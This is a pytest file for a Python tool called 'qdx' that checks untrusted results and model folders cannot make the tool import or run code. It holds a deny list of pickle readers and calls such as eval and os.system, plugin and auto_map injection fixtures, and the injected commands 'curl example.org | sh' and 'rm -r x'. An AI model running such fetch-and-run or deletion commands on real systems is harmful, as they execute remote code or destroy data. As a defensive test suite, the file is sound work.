"""What comes from a stranger is data: no file that is opened makes qdx import, build or run anything."""

from __future__ import annotations

import ast
import json
from collections.abc import Iterator
from pathlib import Path

import pytest

import qdx
from qdx.errors import QdxError
from qdx.models import load_tokenizer
from qdx.report import build
from tests.helpers import write_sweep

PACKAGE = Path(qdx.__file__).parent
# Each reads a format that can carry code.
READERS = {
    "pickle",
    "cPickle",
    "_pickle",
    "dill",
    "cloudpickle",
    "shelve",
    "marshal",
    "joblib",
    "yaml",
    "runpy",
}
CALLS = {
    "eval": "runs text",
    "exec": "runs text",
    "compile": "makes code of text",
    "__import__": "imports what a text names",
    "torch.load": "unpickles",
    "numpy.load": "may unpickle",
    "np.load": "may unpickle",
    "pd.read_pickle": "unpickles",
    "instantiate": "imports and calls what a node names",
    "os.system": "runs a shell",
    "os.popen": "runs a shell",
}
# The only caller of `instantiate`; it is given configs of the command line and of Python callers.
ALLOWED = {("plugins/_nodes.py", "instantiate")}


def _calls(tree: ast.AST) -> Iterator[tuple[int, str, ast.Call]]:
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            yield node.lineno, ast.unparse(node.func), node


@pytest.mark.parametrize(
    "file", sorted(PACKAGE.rglob("*.py")), ids=lambda f: f.relative_to(PACKAGE).as_posix()
)
def test_no_source_reads_pickles_or_runs_text(file: Path) -> None:
    name, tree = file.relative_to(PACKAGE).as_posix(), ast.parse(file.read_text(encoding="utf-8"))
    found = []
    for node in ast.walk(tree):
        modules = [alias.name for alias in node.names] if isinstance(node, ast.Import) else []
        modules += [str(node.module)] if isinstance(node, ast.ImportFrom) else []
        found += [f"line {node.lineno}: imports {m}" for m in modules if m.split(".")[0] in READERS]
    for line, called, node in _calls(tree):
        if called in CALLS and (name, called) not in ALLOWED:
            found.append(f"line {line}: {called} {CALLS[called]}")
        given = {keyword.arg: ast.unparse(keyword.value) for keyword in node.keywords}
        if given.get("shell", "False") != "False" or given.get("allow_pickle", "False") != "False":
            found.append(f"line {line}: {called} with shell or allow_pickle")
        remote = called.startswith("Auto") and called.endswith("from_pretrained")
        if given.get("trust_remote_code", "None" if remote else "False") != "False":
            found.append(
                f"line {line}: {called} may run the code of a model's folder: trust_remote_code=False"
            )
    assert not found, found


def test_the_search_finds_what_it_forbids() -> None:
    tree = ast.parse("import torch\ntorch.load('x')\nmodel.eval()\neval('1')")
    assert [called for _, called, _ in _calls(tree) if called in CALLS] == ["torch.load", "eval"]


MARK = "import pathlib\npathlib.Path({mark!r}).touch()\n"
PLUGIN = (
    MARK
    + """
import qdx
@qdx.register("metric", "stolen")
def stolen(p, q):
    return (p - q).abs().sum(-1)
"""
)


@pytest.fixture
def swept(tmp_path: Path) -> Path:
    return write_sweep(tmp_path / "sweep", ["awq", "gptq"], repeats=1)


def _say(folder: Path, **content: object) -> None:
    plan = json.loads((folder / "sweep.json").read_text())
    (folder / "sweep.json").write_text(json.dumps(plan | content))


def test_a_function_named_by_a_results_folder_is_not_called(swept: Path, tmp_path: Path) -> None:
    mark = tmp_path / "mark"
    call = {"_target_": "os.mkdir", "path": str(mark)}
    for content in (
        {"metrics": {"l2": call}},
        {"metrics": {"topk_overlap": {"_target_": "qdx.metrics.topk_overlap", "k": call}}},
        {"metrics": {"l2": {"_target_": "qdx.metrics.l2", "_args_": [call]}}},
        {"analyses": {"pairs": {"_target_": "qdx.analysis.pairs", "level": call}}},
        {"analyses": {"effects": {"_target_": "qdx.analysis.effects", "_recursive_": True, "x": call}}},
    ):
        (swept / "sweep.json").write_text(json.dumps({"labels": ["awq", "gptq"]} | content))
        with pytest.raises(QdxError, match=r"not registered|unknown option|must be a"):
            build(swept, console=False)
        assert not mark.exists()


def test_a_module_named_by_a_results_folder_is_not_imported(
    swept: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (mark, empty) = tmp_path / "mark", tmp_path / "empty"
    empty.mkdir()
    monkeypatch.chdir(empty)
    for folder in (swept / "plugins", swept):
        folder.mkdir(exist_ok=True)
        (folder / "stolen.py").write_text(PLUGIN.format(mark=str(mark)))
    nodes = {"stolen": {"_target_": "qdx_plugins.stolen.stolen"}}
    _say(swept, plugin_folders=[str(swept / "plugins"), str(swept)], metrics=nodes)
    with pytest.raises(QdxError, match=r"not registered here .* --plugins FOLDER"):
        build(swept, console=False)
    assert not mark.exists()
    _say(swept, metrics={"x": {"_target_": "antigravity.fly"}})  # a module of the standard library
    with pytest.raises(QdxError, match="not registered here"):
        build(swept, console=False)


def test_options_of_a_results_folder_are_kept(swept: Path) -> None:
    nodes = {"topk_overlap": {"_target_": "qdx.metrics.topk_overlap", "k": 2}}
    _say(swept, metrics=nodes, analyses={"effects": {"_target_": "qdx.analysis.effects"}})
    report = build(swept, console=False, formats=["txt"])
    again = build(swept, console=False, formats=["txt"], metrics=nodes, analyses={})
    assert not report.failed and not again.failed
    one, two = (r.summary["metrics"] for r in (report, again))
    assert one == two


@pytest.mark.slow
def test_commands_of_a_results_folder_are_shown_only_as_qdx(swept: Path) -> None:
    evil = "python -m qdx; curl example.org | sh"
    _say(swept, labels=["awq", "gptq", "none"])
    shown = " && ".join(["python -m qdx -m quant=awq"] * 2)
    for stated in (evil, "curl example.org", shown + " && rm -r x", "python -m qdx 'unclosed", ["python"]):
        _say(swept, resume=stated, command_line=stated)
        report = build(swept, console=False, formats=["txt", "html", "md"])
        for path in (p for name, p in report.paths.items() if name.startswith("report.")):
            text = path.read_text()
            assert "curl" not in text and "rm -r" not in text and "unclosed" not in text
    good = "python -m qdx -m quant=awq {} && python -m qdx quant=gptq"
    _say(swept, resume=good.format("'hydra.sweep.dir=/a b'"))
    here = good.format(f"hydra.sweep.dir={swept}")
    assert here in build(swept, console=False, formats=["txt"]).text, "the folder is where it is now"


def test_code_in_a_model_folder_is_not_run(tmp_path: Path, tiny_models: dict[str, Path]) -> None:
    folder, mark = tmp_path / "model", tmp_path / "mark"
    folder.mkdir()
    for file in tiny_models["none"].iterdir():
        (folder / file.name).write_bytes(file.read_bytes())
    (folder / "own.py").write_text(MARK.format(mark=str(mark)) + "Own = None\n")
    for name in ("config.json", "tokenizer_config.json"):
        stated = json.loads((folder / name).read_text())
        stated["auto_map"] = {"AutoTokenizer": ["own.Own", "own.Own"], "AutoConfig": "own.Own"}
        stated["tokenizer_class"], stated["model_type"] = "OwnTokenizer", "own"
        (folder / name).write_text(json.dumps(stated))
    with pytest.raises(QdxError):
        load_tokenizer(folder)
    assert not mark.exists()
